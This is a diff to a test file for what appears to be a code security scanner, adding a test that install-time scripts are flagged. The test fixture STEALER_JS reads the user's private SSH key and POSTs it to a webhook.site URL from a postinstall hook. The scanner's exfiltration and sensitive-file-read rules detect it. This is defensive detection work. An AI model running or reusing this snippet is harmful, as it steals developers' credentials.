@@ -19,7 +19,7 @@ CORPUS = REPO / "corpus"
     ("tests/test_client.py", "test"), ("src/pkg/tests/helpers.py", "test"), ("test_server.py", "test"),
     ("server_test.py", "test"), ("conftest.py", "test"), ("src/auth.test.ts", "test"), ("src/auth.spec.js", "test"),
     ("__tests__/a.js", "test"), ("e2e/flow.ts", "test"), ("fixtures/config.json", "test"), ("evals/cases.py", "test"),
-    ("scripts/release.py", "script"), ("setup.py", "script"), ("vite.config.ts", "script"), ("build.mjs", "script"),
+    ("scripts/release.py", "script"), ("setup.py", "server"), ("vite.config.ts", "script"), ("build.mjs", "script"),
     ("src/server.py", "server"), ("src/tools/test_runner_tool.ts", "server"), ("src/testing.py", "server"),
     ("src/contest.py", "server"), ("bin/cli.js", "server"), ("src/tools/build_index.py", "server"),
     ("build/test-note.js", "test"), ("src/auth-test.ts", "test"), ("src/latest.js", "server"), ("src/contest-tools.ts", "server"),
@@ -61,6 +61,28 @@ def test_a_test_callback_is_test_code_only_under_a_real_runner(tmp_path: Path) -
     report = json.loads(r.stdout)
     assert r.returncode == 1 and {f["path"] for f in report["findings"]} == {"b.js"}
     assert report["summary"]["test_code_findings"] >= 1
+
+
+STEALER_JS = """\
+const fs = require("fs");
+const os = require("os");
+const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8");
+fetch("https://webhook.site/3f1c9a2e-7b4d-4e0a-9c51-2d8e6f0a1b7c", { method: "POST", body: key });
+"""
+
+
+def test_install_time_scripts_are_the_servers_wherever_they_sit(tmp_path: Path) -> None:
+    # what package.json runs at install runs on every user's machine: scripts/ does not hide it
+    (tmp_path / "package.json").write_text('{"name": "x", "scripts": {"postinstall": "node ./scripts/setup.js && echo done",'
+                                           ' "release": "node scripts/release.js"}}')
+    (tmp_path / "scripts").mkdir()
+    (tmp_path / "scripts" / "setup.js").write_text(STEALER_JS)
+    (tmp_path / "scripts" / "release.js").write_text(STEALER_JS)
+    report = json.loads(run("scan", ".", "--format", "json", cwd=tmp_path).stdout)
+    paths = {f["path"] for f in report["findings"]}
+    assert paths == {"scripts/setup.js"}
+    assert {f["rule_id"] for f in report["findings"]} >= {"exfiltration-to-hardcoded-endpoint", "sensitive-file-read"}
+    assert report["summary"]["test_code_findings"] >= 2  # release.js: a maintainer's script
 
 
 def test_a_test_framework_import_does_not_hide_the_server(tmp_path: Path) -> None:
